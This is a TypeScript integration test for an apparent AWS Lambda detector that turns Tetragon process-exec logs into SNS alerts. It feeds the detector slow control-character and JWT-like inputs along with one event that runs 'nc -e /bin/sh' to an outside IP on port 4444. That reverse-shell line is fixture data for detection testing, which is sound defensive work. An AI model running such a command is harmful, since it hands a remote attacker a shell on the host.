import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { encodeAwslogsEvent } from "../../src/ingest/encode.js";
import type { Signal } from "../../src/model.js";
import { ROOT } from "../support/cli.js";
import { type Moto, startMoto } from "../support/moto.js";
import { drain, type Envelope, type Subscribed, topicWithQueue } from "../support/sns-sqs.js";

/** A Tetragon process_exec line inside a pod. */
function tetragon(i: number, binary: string, args: string): string {
  return JSON.stringify({
    process_exec: {
      process: {
        exec_id: `aXAtMTAtMC0xMi0zNDo${i}`,
        pid: 20_000 + i,
        cwd: "/app",
        binary,
        arguments: args,
        pod: {
          namespace: "payments",
          name: "checkout-api-7d9f6c5b8-x2k4q",
          container: { id: "containerd://6f1c2e0b9a8d7c6b5a4f3e2d1c0b", name: "checkout-api" },
        },
      },
      parent: { binary: "/bin/sh", arguments: "", pid: 19_000 },
    },
    node_name: "ip-10-0-12-34.ec2.internal",
    time: new Date(Date.UTC(2026, 10, 28, 10) + i).toISOString(),
  });
}

const fill = (unit: string, chars: number) => unit.repeat(Math.ceil(chars / unit.length)).slice(0, chars);
const CONTROL = "\x01\x02\x1b\x7f\x9b\x00 a\x1b[31m\x07 ";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl ";

/** The two slow inputs of issue 13 (control characters; JWT-like arguments), then the victim's reverse shell. */
function hostileBatch(run: string) {
  const logEvents = [];
  for (let i = 0; i < 200; i++) {
    const args = i % 2 === 0 ? fill(CONTROL, 2400) : fill(JWT, 2400);
    logEvents.push({
      id: `${run}-${i + 1}`,
      timestamp: Date.UTC(2026, 10, 28, 10) + i,
      message: tetragon(i, "/usr/bin/curl", `${args} ${i}`),
    });
  }
  logEvents.push({
    id: `${run}-victim`,
    timestamp: Date.UTC(2026, 10, 28, 11),
    message: tetragon(9999, "/tmp/nc", "-e /bin/sh 198.51.100.23 4444"),
  });
  return encodeAwslogsEvent({
    messageType: "DATA_MESSAGE",
    owner: "123456789012",
    logGroup: "/aws/containerinsights/prod-eks/tetragon",
    logStream: "ip-10-0-12-34.ec2.internal",
    subscriptionFilters: ["netutil-detector"],
    logEvents,
  });
}

// The built Lambda bundle against SNS and SQS in moto_server, with a Lambda-like remaining-time clock.
describe("dist/handler.js on the slow inputs", () => {
  let moto: Moto;
  let alerts: Subscribed;
  let handler: (
    event: unknown,
    context?: { getRemainingTimeInMillis(): number },
  ) => Promise<Record<string, unknown>>;

  beforeAll(async () => {
    moto = await startMoto();
    alerts = await topicWithQueue(moto, "netutil-slow-input");
    Object.assign(process.env, moto.env, {
      SNS_TOPIC_ARN: alerts.topicArn,
      MIN_SEVERITY: "medium",
      POWERTOOLS_METRICS_DISABLED: "true",
      POWERTOOLS_LOG_LEVEL: "SILENT",
      AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED: "true",
    });
    ({ handler } = await import(pathToFileURL(`${ROOT}/dist/handler.js`).href));
  });
  afterAll(async () => {
    await moto?.stop();
  });

  it.each([
    ["a 60 s Lambda", 60_000],
    // 1.5 s for the analysis: what is left over is judged fail-closed, and the victim still goes out.
    ["a Lambda with 8 s left", 8_000],
  ])("publishes the victim's nc signal in %s", async (_name, remainingMs) => {
    const end = Date.now() + remainingMs;
    const summary = await handler(hostileBatch(String(remainingMs)), {
      getRemainingTimeInMillis: () => end - Date.now(),
    });

    expect(summary.execEvents).toBe(201);
    expect(summary.overBudget).toBeLessThanOrEqual(201);
    expect(summary.published).toBe(summary.signals);
    const signals = (await drain(moto, alerts.queueUrl, summary.published as number)).map(
      (body) => JSON.parse((JSON.parse(body) as Envelope).Message) as Signal,
    );
    const nc = signals.filter((s) => s.process.name === "nc");
    expect(nc).toHaveLength(1);
    expect(nc[0]?.severity).toMatch(/^(?:high|critical)$/);
  });
});
